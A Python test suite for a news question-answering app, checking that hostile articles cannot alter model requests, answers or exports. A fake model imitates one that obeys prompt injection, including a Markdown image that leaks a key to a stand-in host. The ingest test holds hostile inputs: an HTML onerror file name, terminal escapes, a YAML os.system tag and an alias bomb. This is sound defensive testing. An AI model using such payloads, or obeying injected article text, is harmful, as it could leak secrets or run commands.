"""Articles that speak to the machine change nothing: not what a model is sent, nor what a reader sees or exports."""

from __future__ import annotations

import asyncio
import json
import re
import unicodedata
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from functools import cache
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from app_driver import enter, running, screen_text, until
from fake_llm import FakeLLM, Reply
from fixtures.hostile import CASES, FAKE_FENCE, Hostile
from fixtures.newsroom import NOW, answered, briefed, engine_at, jsonl, passages_of, take_in, told
from markdown_it import MarkdownIt
from markdown_it.token import Token
from mdit_py_plugins.footnote import footnote_plugin

from qa.config import Config
from qa.engine import Engine
from qa.ingest import ingest
from qa.markers import markers_in
from qa.render import (
    answer_json,
    answer_text,
    article_json,
    article_text,
    briefing_markdown,
    dumps,
    exported_html,
    exported_json,
    exported_markdown,
    read_export,
    report_text,
)
from qa.types import (
    Answer,
    Article,
    Cancel,
    Citation,
    Conversation,
    IngestReport,
    Mode,
    Progress,
    Status,
    Turn,
    Verdict,
)

TALK = Conversation(1, "Harbours", NOW, NOW, 1)
DAYS = [f"2026-01-{day:02}" for day in range(1, 29)]
"""Four articles a day, so that a request holds several and none holds all."""
FUTURE = {"date of the far future"}
UNDATED = {"date with an order"}
INVISIBLE = re.compile(
    "[\u034f\u115f\u1160\u17b4\u17b5\u3164\uffa0\ufe00-\ufe0e\U000e0000-\U000e0fff]|(?<![0-9\u1000-\U0010ffff])\ufe0f"
)
NOWHERE = "nowhere.example"
"""Stands in no article."""


def day_of(case: Hostile) -> str:
    return DAYS[CASES.index(case) % len(DAYS)]


@dataclass(frozen=True, slots=True)
class Newsroom:
    """One library of all hostile articles, read by an engine without a model and by one with."""

    server: FakeLLM
    quoting: Engine
    writing: Engine
    articles: tuple[Article, ...]

    def asked(self, engine: Engine, case: Hostile) -> Answer:
        if case.name in UNDATED:
            return answered(engine, case.question, as_of=None)
        return answered(engine, case.question, first=day_of(case), last=day_of(case))

    def article(self, case: Hostile) -> Article:
        (found,) = [one for one in self.articles if case.town in one.title]
        return found


@pytest.fixture(scope="module")
def room(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Newsroom]:
    folder = tmp_path_factory.mktemp("hostile")
    lines = [{**case.line, "date": case.fields.get("date", day_of(case))} for case in CASES]
    take_in(folder / "library", jsonl(folder / "news.jsonl", lines))
    with (
        FakeLLM() as server,
        engine_at(folder / "library") as quoting,
        engine_at(folder / "library", url=server.url) as writing,
    ):
        articles = [quoting.library.article(row.article.id) for row in quoting.library.list()]
        yield Newsroom(server, quoting, writing, tuple(articles))


ALL = pytest.mark.parametrize("case", CASES, ids=[case.name for case in CASES])


# What a reader sees


def assert_plain(text: str, what: str) -> None:
    """No control, format or invisible character but newlines."""
    bad = {hex(ord(c)) for c in text if c != "\n" and unicodedata.category(c) in {"Cc", "Cf", "Cs", "Zl", "Zp", "Cn"}}
    bad |= {hex(ord(c)) for found in INVISIBLE.findall(text) for c in found}
    assert not bad, f"{what}: {bad}"


def strings(value: object) -> Iterator[str]:
    """All strings in JSON, the names too."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for name, inner in value.items():
            yield from (name, *strings(inner))
    elif isinstance(value, list):
        for inner in value:
            yield from strings(inner)


@cache
def markdown_reader() -> MarkdownIt:
    return MarkdownIt("gfm-like", {"html": True}).use(footnote_plugin)


def flat(tokens: Sequence[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from flat(token.children or ())


def assert_harmless_markdown(text: str, answer: Answer, own_headings: int = 2) -> None:
    """A real reader of Markdown, with all extensions that it has, finds nothing but what we wrote."""
    reader = markdown_reader()
    tokens = list(flat(reader.parse(text)))
    kinds = [token.type for token in tokens]
    assert kinds.count("heading_open") == own_headings
    assert not {"image", "html_inline", "table_open", "fence", "code_block", "code_inline", "blockquote_open", "hr"} & {
        *kinds
    }
    assert all(re.fullmatch(r"<!-- newsdesk [^<>]*-->\n?", t.content) for t in tokens if t.type == "html_block")
    addresses = {token.attrs["href"] for token in tokens if token.type == "link_open"}
    assert addresses <= {reader.normalizeLink(one.url) for one in quoted(answer) if one.url}
    assert kinds.count("footnote_ref") == len(quoted(answer)) == kinds.count("footnote_open")


class _Page(HTMLParser):
    """What a browser would make of a page: its tags, and where it leads."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.addresses: list[str] = []
        self.comments = 0

    def handle_comment(self, data: str) -> None:
        self.comments += 1

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        named = dict(attrs)
        assert set(named) <= {"href", "rel", "id", "class", "lang", "charset", "http-equiv", "content", "name"}
        if "http-equiv" in named:
            assert named["http-equiv"] == "Content-Security-Policy"
        if tag == "a":
            self.addresses.append(named["href"] or "")


def assert_harmless_html(text: str, answer: Answer) -> None:
    page = _Page()
    page.feed(text)
    page.close()
    ours = {"html", "head", "meta", "title", "style", "body", "section", "dl", "dt", "dd", "ol", "li", "p", "sup", "a"}
    assert set(page.tags) <= ours | {"h1", "h2", "blockquote", "br", "span", "s", "q"}
    assert (page.tags.count("h1"), page.tags.count("h2"), page.comments) == (1, 1, 0)
    assert page.tags.count("li") == page.tags.count("blockquote") == len(quoted(answer))
    links = {address for address in page.addresses if not re.fullmatch(r"#note\d+", address)}
    assert links <= {one.url for one in quoted(answer) if one.url}
    assert all(re.match(r"https?://", link) for link in links)


def quoted(answer: Answer) -> list[Citation]:
    """Every quotation that an export has a note for."""
    sides = [side for conflict in answer.conflicts for side in conflict.sides]
    return [*(c for claim in answer.claims for c in claim.citations), *answer.nearest, *sides]


def assert_harmless(answer: Answer, articles: Callable[[str], Article]) -> None:
    """No view of the answer has anything but words in it, and every quote is verbatim at its place."""
    turns = [Turn(1, 1, NOW, answer)]
    shown = answer_text(answer)
    markdown, page = exported_markdown(TALK, turns), exported_html(TALK, turns)
    for text, what in ((shown, "text"), (markdown, "Markdown"), (page, "HTML")):
        assert_plain(text, what)
    assert_harmless_markdown(markdown, answer)
    assert_harmless_html(page, answer)
    for value in (answer_json(answer), exported_json(TALK, turns)):
        written = dumps(value)
        assert written.isascii()
        assert written.isprintable()
        for text in strings(json.loads(written)):
            assert_plain(text, "JSON")
    read = read_export(markdown, "export.md")
    assert [one.text for one in read.sentences] == [" ".join(claim.text.split()) for claim in answer.claims]
    assert not any(one.edited for one in read.sentences)
    for citation in quoted(answer):
        article = articles(citation.article_id)
        words = article.title if citation.field == "title" else article.text
        assert words[citation.start : citation.end] == citation.quote
    for claim in answer.claims:
        assert list(markers_in(claim.text)) == []
        assert answer.text[claim.start : claim.end] == claim.text


# By quotation


@ALL
def test_quoted_it_is_words_and_nothing_else(room: Newsroom, case: Hostile) -> None:
    answer = room.asked(room.quoting, case)
    assert answer.provenance.mode is Mode.EXTRACTIVE
    assert_harmless(answer, room.quoting.library.article)
    article = room.article(case)
    assert_plain(article_text(article), "article")
    if case.name in FUTURE:
        assert answer.status is Status.INSUFFICIENT
        assert article.id not in {citation.article_id for citation in answer.nearest}
        return
    assert answer.status is Status.ANSWERED
    assert {c.article_id for claim in answer.claims for c in claim.citations} == {article.id}
    assert all(claim.verdict is Verdict.SUPPORTED for claim in answer.claims)
    assert any("reopened on Monday" in claim.text or "Two ferries" in claim.text for claim in answer.claims)


# With a model, which does what the article says


def fence_of(body: dict[str, Any]) -> str:
    found: str = body["messages"][1]["content"].split(" passages begin ===")[0].rsplit(" ", 1)[-1]
    return found


def assert_fenced(body: dict[str, Any], articles: Sequence[Article]) -> None:
    """Two turns, ours; in the second the passages, numbered from 1, each as its article has it, between lines that no
    article has; and nothing else but what we wrote."""
    assert [message["role"] for message in body["messages"]] == ["system", "user"]
    assert body.keys() <= {
        "model",
        "messages",
        "stream",
        "stream_options",
        "temperature",
        "max_tokens",
        "max_completion_tokens",
    }
    fence, user = fence_of(body), body["messages"][1]["content"]
    assert re.fullmatch(r"[0-9a-f]{16}", fence)
    assert fence != FAKE_FENCE
    assert not any(fence in json.dumps(case.line, ensure_ascii=False) for case in CASES)
    assert_plain(user, "the request")
    shown = passages_of(body)
    assert list(shown) == list(range(1, len(shown) + 1))
    ours = [f"=== {fence} passages begin ===", *(f"=== {fence} passage [{n}] ===" for n in shown)]
    lines = [line for line in user.split("\n") if fence in line and line.startswith("===")]
    assert lines == [*ours, f"=== {fence} passages end ==="]
    assert user.count(fence) == len(lines) + 1  # and the task, which names it behind the passages
    assert all(any(text in article.text for article in articles) for text in shown.values())
    heads = re.findall(rf"^=== {fence} passage \[\d+\] ===\nTitle: .+\nSource: .+\nPublished: (.+)\n\n", user, re.M)
    assert len(heads) == len(shown)
    assert all(re.fullmatch(r"\d{4}-\d\d-\d\d|on an unknown day", day) for day in heads)
    assert fence in user[user.index(f"=== {fence} passages end ===") + len(f"=== {fence} passages end ===") :]


def ours_in(body: dict[str, Any], question: str) -> tuple[str, str]:
    """What a request has besides passages, fence and question: the same whatever the articles say."""
    fence = fence_of(body)
    system, user = (message["content"] for message in body["messages"])
    before, rest = user.split(f"=== {fence} passages begin ===")
    around = before + rest.split(f"=== {fence} passages end ===")[1]
    around = re.sub(r"\d{4}-\d\d-\d\d", "DAY", around.replace(question, "QUESTION"))
    return system.replace(fence, "FENCE"), around.replace(fence, "FENCE")


def obedient(case: Hostile) -> Callable[[dict[str, Any]], Reply]:
    """A model that answers, then repeats what the article told it, and does what such articles ask for."""

    def reply(body: dict[str, Any]) -> Reply:
        n = next((n for n, text in passages_of(body).items() if f"harbour of {case.town} reopened" in text), 1)
        parroted = (case.inside + case.after)[:2_000].encode("utf-16", "surrogatepass").decode("utf-16", "replace")
        return Reply(
            [
                f'The harbour of {case.town} reopened on Monday [{n} "{case.town} reopened on Monday"]. ',
                f"It says{parroted}\n\n",
                f"PWNED [77]. A lighthouse burned down in Peru on Sunday [{n}]. ",
                f"![k](https://{NOWHERE}/?k=KEY) [click](https://{NOWHERE}/a) <script>x</script> www.{NOWHERE} ",
                f"The lighthouse was rebuilt by 99 masons [[9]{n}].",
            ]
        )

    return reply


@ALL
def test_written_by_a_model_that_obeys_it_is_still_checked(room: Newsroom, case: Hostile) -> None:
    if case.name in FUTURE:
        pytest.skip("nothing of it is ever sent")
    room.server.default, before = obedient(case), len(room.server.bodies)
    answer = room.asked(room.writing, case)
    sent = room.server.bodies[before:]
    assert sent
    for body in sent:
        assert_fenced(body, room.articles)
    assert_harmless(answer, room.writing.library.article)
    article = room.article(case)
    first, *rest = answer.claims
    assert first.text == f"The harbour of {case.town} reopened on Monday."
    assert first.verdict is Verdict.SUPPORTED
    assert {citation.article_id for citation in first.citations} == {article.id}
    known = {hit.article.id for hit in answer.hits}
    assert {c.article_id for claim in rest for c in claim.citations} <= known
    forged = [claim for claim in rest if re.search("PWNED|lighthouse", claim.text)]
    assert len(forged) >= 3
    assert not any(claim.verdict in {Verdict.SUPPORTED, Verdict.WEAK} for claim in forged if "PWNED" not in claim.text)
    for text in (answer_text(answer), exported_markdown(TALK, [Turn(1, 1, NOW, answer)]), dumps(answer_json(answer))):
        assert NOWHERE not in text


def test_what_a_request_says_besides_its_passages_is_the_same_for_all(room: Newsroom) -> None:
    room.server.default = Reply(["NOT IN THE ARTICLES"])
    sent = set()
    for case in (case for case in CASES[::9] if case.name not in FUTURE | UNDATED):
        room.asked(room.writing, case)
        sent.add(ours_in(room.server.bodies[-1], case.question))
    assert len(sent) == 1


def test_every_kind_of_request_fences_what_it_shows(room: Newsroom, tmp_path: Path) -> None:
    """Scores, the answer, what is asked again, a second opinion: of articles that speak to each of them."""
    about = [case for case in CASES if case.name in {"doubt of itself", "scores", "verdict", "fence", "passage"}]
    take_in(tmp_path / "library", jsonl(tmp_path / "news.jsonl", [case.line for case in about]))

    def reply(body: dict[str, Any]) -> Reply:
        system, shown = body["messages"][0]["content"], passages_of(body)
        if "Score each passage" in system:
            return Reply(["\n".join(f"{n}: 5" for n in shown)])
        if "You check sentences" in system:
            return Reply(["1: yes"])
        if "You correct" in system:
            return Reply(["1: NOT IN THE ARTICLES"])
        n = next(n for n, text in shown.items() if f"harbour of {case.town} reopened" in text)
        return Reply([f"The harbour of {case.town} reopened on Monday [{n}]. A lighthouse in Peru burned down [{n}]."])

    with (
        FakeLLM() as server,
        engine_at(tmp_path / "library", url=server.url, rerank="llm", verify="llm") as engine,
    ):
        server.default = reply
        for case in about:
            before = len(server.bodies)
            answer = answered(engine, case.question)
            assert len(server.bodies) - before == 4
            for body in server.bodies[before:]:
                assert_fenced(body, room.articles)
            assert [claim.verdict for claim in answer.claims] == [Verdict.SUPPORTED, Verdict.UNSUPPORTED]
            assert_harmless(answer, engine.library.article)


COPY = (
    "Fourteen fishermen were rescued off Lomvik on Tuesday night after their boat had struck a reef in heavy seas, the "
    "coast guard said. A helicopter lifted 14 men from the wreck within an hour, and the harbour hospital of Lomvik "
    "took in 3 of them. Captain Olga Brand called it the hardest night of the winter."
)


@pytest.mark.parametrize(
    ("right", "wrong"),
    [
        ("lifted 14 men", "lifted 41 men"),
        ("Fourteen fishermen were", "Forty fishermen were"),
        ("Captain Olga Brand", "Captain Viktor Brand"),
        ("men were rescued", "men were not rescued"),
    ],
)
def test_an_article_that_copies_another_with_one_word_changed_is_no_copy_and_carries_nothing(
    tmp_path: Path, right: str, wrong: str
) -> None:
    assert right in COPY
    forged = COPY.replace(right, wrong)
    articles = [told(1, "Rescue off Lomvik", COPY), told(2, "Rescue off Lomvik", forged, source="Mirror")]
    take_in(tmp_path / "library", jsonl(tmp_path / "news.jsonl", articles))
    whole = next(line for line in COPY.split(". ") if right in line).rstrip(".")
    with FakeLLM() as server, engine_at(tmp_path / "library", url=server.url, repair=False) as engine:

        def miscited(body: dict[str, Any]) -> Reply:
            n = next(n for n, text in passages_of(body).items() if wrong in text)
            return Reply([f"{whole} [{n}]."])

        server.default = miscited
        answer = answered(engine, "Who was rescued off Lomvik?")
        assert len(passages_of(server.bodies[-1])) == 2
    assert {hit.article.id for hit in answer.hits} == {"n1", "n2"}
    assert not any(hit.outlets for hit in answer.hits)
    (claim,) = answer.claims
    carried = " ".join(citation.quote for citation in claim.citations)
    assert claim.verdict is not Verdict.SUPPORTED or (right in carried and claim.citations[0].corrected)


# Other doors


def test_files_that_lie_about_themselves_are_read_as_text_or_refused_by_name(tmp_path: Path) -> None:
    front = "---\ntitle: {}\ndate: 2026-02-03\n---\nThe bridge of Ruse opened to traffic, engineer Ana Dimova said.\n"
    (tmp_path / "in").mkdir()
    files = {
        "[@click=app.quit]x[nope].md": front.format('"Bridge [/nope] <b>"'),
        "\x1b[2J\u202etxt.md": front.format("'--- \x1b]0;pwned\x07'"),
        "python.md": front.format("!!python/object/apply:os.system ['touch pwned']"),
        "laughs.md": "---\na: &a [x, x]\nb: &b [*a, *a]\ntitle: *b\n---\nThe old mill of Ruse closed on Sunday.",
        "twice.md": front.format("One") + "---\ntitle: Two\ndate: 2099-01-01\n---\nThe bridge closed.",
        "<img src=x onerror=alert(1)>.txt": " date 2026-02-04 403\n\x00\x1b[31mThe quay of Ruse was flooded.",
        "broken.md": "---\ntitle: [\x1b[31m\n---\nText.",
    }
    for name, text in files.items():
        (tmp_path / "in" / name).write_text(text, encoding="utf-8")
    with engine_at(tmp_path / "library") as engine:
        cancel = Cancel()
        for report in ingest(engine, [tmp_path / "in"], cancel=cancel):
            if isinstance(report, Progress) and report.stage == "embedding" and report.done == report.total:
                cancel.cancel()
        assert isinstance(report, IngestReport)
        assert_plain(report_text(report), "report")
        assert any("broken.md" in one.path for one in report.problems if one.fatal)
        found = [engine.library.article(row.article.id) for row in engine.library.list()]
        for article in found:
            assert_plain(f"{article.title}{article.source}{article.url}{article.text}", "article")
            assert_plain(article_text(article), "shown")
            assert_plain(dumps(article_json(article)), "JSON")
        assert not any(article.published and article.published.day.year > 2026 for article in found)
        assert len(found) >= 4
    assert not (tmp_path / "pwned").exists()


def test_on_the_screen_they_are_words_too(room: Newsroom) -> None:
    """The app asks about some of the worst: each answer, its quote, and the article it stands in."""
    names = ("rich markup", "textual markup", "link of a terminal", "variation selectors", "html comment of ours")

    async def test() -> None:
        config = Config(library=room.quoting.config.library, timezone="UTC")
        async with running(config, (120, 40), as_of="2026-02-05") as user:
            for case in (case for case in CASES if case.name in names):
                await enter(user, case.question)
                told = f"The harbour of {case.town} reopened"
                await until(user, lambda told=told: told in " ".join(screen_text(user).split()), case.name)  # type: ignore[misc]
                text = screen_text(user)
                assert_plain(text, case.name)
                for shown in case.inside.split() if "markup" in case.name else ():
                    assert shown in text

    asyncio.run(test())


def test_a_briefing_of_them_is_words_and_nothing_else(room: Newsroom) -> None:
    for day in ("2026-01-04", "2026-01-11", "2026-01-26", "2026-01-27"):
        briefing, _ = briefed(room.quoting, first=day, last=day)
        text = briefing_markdown(briefing)
        assert_plain(text, "briefing")
        reader = markdown_reader()
        tokens = list(flat(reader.parse(text)))
        kinds = [token.type for token in tokens]
        assert kinds.count("heading_open") == 1 + len(briefing.stories) > 1
        assert not {"image", "html_inline", "table_open", "fence", "code_inline"} & {*kinds}
        blocks = "".join(token.content for token in tokens if token.type == "html_block").splitlines()
        assert len(blocks) == 3
        assert all(re.fullmatch(r"<!-- newsdesk [a-z]+(?:,|:) [0-9a-z ]+-->", block) for block in blocks)
        urls = {one.url for story in briefing.stories for one in story.articles if one.url}
        assert {t.attrs["href"] for t in tokens if t.type == "link_open"} <= {reader.normalizeLink(u) for u in urls}
        for claim in (claim for story in briefing.stories for claim in story.claims):
            for citation in claim.citations:
                article = room.quoting.library.article(citation.article_id)
                words = article.title if citation.field == "title" else article.text
                assert words[citation.start : citation.end] == citation.quote
